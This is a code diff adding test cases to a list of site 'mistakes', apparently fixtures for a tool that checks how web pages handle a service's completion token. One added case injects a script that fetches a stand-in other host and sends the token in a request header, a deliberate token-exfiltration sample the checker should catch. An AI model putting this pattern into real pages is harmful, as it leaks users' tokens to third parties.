@@ -10,6 +10,7 @@ import {
   START,
   tag,
   THANKS,
+  writeOver,
 } from '../site-parts.ts';
 import type { Mistake } from '../site-parts.ts';
 
@@ -205,5 +206,49 @@ export const WAY_MISTAKES: readonly Mistake[] = [
         'https://service.example/api/v3/endlinks/complete.html?service_endlink_token=$token',
       ),
     },
+  },
+  {
+    name: 'reads the outcome from a parameter without a value',
+    causeId: 'outcome-parameter',
+    broken: 'reported',
+    pages: {
+      ...last(tag('data-outcome-param="status"'), THANKS),
+      '/': page(tag(), '<a id="start" href="/end?status=">Start</a>'),
+    },
+  },
+  {
+    name: 'leaves the token in the address by another word than off',
+    causeId: 'scrub-off',
+    broken: 'address',
+    pages: landing(tag('data-scrub="false"')),
+  },
+  {
+    name: 'sends the token to another host in a header',
+    causeId: 'third-party',
+    broken: 'private',
+    cause: /received the token in a header/,
+    pages: landing(
+      tag(),
+      `${START}<script>fetch('{other}/api',{headers:{'x-token':vaultlink.token()}})</script>`,
+    ),
+    files: {
+      '/api': () =>
+        served('', 'text/plain', {
+          'access-control-allow-origin': '*',
+          'access-control-allow-headers': '*',
+        }),
+    },
+  },
+  {
+    name: 'writes over its last page by a script',
+    causeId: 'page-overwritten',
+    broken: 'reported',
+    pages: last(tag(), writeOver(THANKS)),
+  },
+  {
+    name: 'writes over its landing page by a script, and goes on in a new tab',
+    causeId: 'page-overwritten',
+    broken: 'kept',
+    pages: landing(tag(), writeOver('<a id="start" href="/end" target="_blank">Start</a>')),
   },
 ];
